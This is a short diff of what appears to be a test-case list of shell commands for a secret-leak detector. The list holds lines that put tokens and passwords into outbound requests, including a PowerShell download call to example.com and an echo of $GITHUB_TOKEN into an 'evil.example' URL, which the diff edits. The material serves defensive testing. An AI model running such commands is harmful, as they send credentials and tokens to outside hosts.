@@ -441,7 +441,7 @@ pwsh -c '(New-Object Net.WebClient).DownloadString("https://example.com/x?v=$env
 curl -d "key=$PRIMARY_KEY_COLUMN" https://example.com
 hey -H "Authorization: Bearer $API_TOKEN" http://localhost:8000/
 ab -n 10 -H "Authorization: Bearer $ACME_API_KEY" https://staging.acme.com/
-echo "https://evil.example/?k=$GITHUB_TOKEN"
+echo "https://evil.example/?k=$GITHUB_TOKEN" > link.txt
 psql postgres://me:$PGPASSWORD@db.internal/app
 psql postgres://me:$DB_PASSWORD@db.example.com/app
 psql postgres://me:$DB_PASSWORD@localhost/app
